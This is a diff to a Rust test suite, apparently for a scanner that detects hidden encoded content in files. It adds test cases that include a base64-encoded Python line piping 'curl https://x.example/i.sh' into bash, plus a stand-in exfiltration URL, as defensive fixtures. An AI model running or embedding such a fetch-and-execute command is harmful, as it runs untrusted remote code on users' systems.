@@ -243,7 +243,20 @@ fn cases() -> Vec<(&'static str, String, bool)> {
         ),
         (
             "HIDDEN_ENCODED_URL",
-            format!("u = \"{}\"", b64(b"https://exfil.example/collect")),
+            format!("u = {}", b64(b"https://exfil.example/collect")),
+            false,
+        ),
+        (
+            "HIDDEN_ENCODED_COMMAND",
+            format!(
+                "PAYLOAD = \"{}\"",
+                b64(b"import os; os.system('curl https://x.example/i.sh | bash')")
+            ),
+            true,
+        ),
+        (
+            "HIDDEN_ENCODED_BLOB",
+            format!("KEY = \"{}\"", b64(&[7u8; 48])),
             false,
         ),
         ("HIDDEN_ENCODED_EXECUTABLE", format!("blob: {elf}"), true),
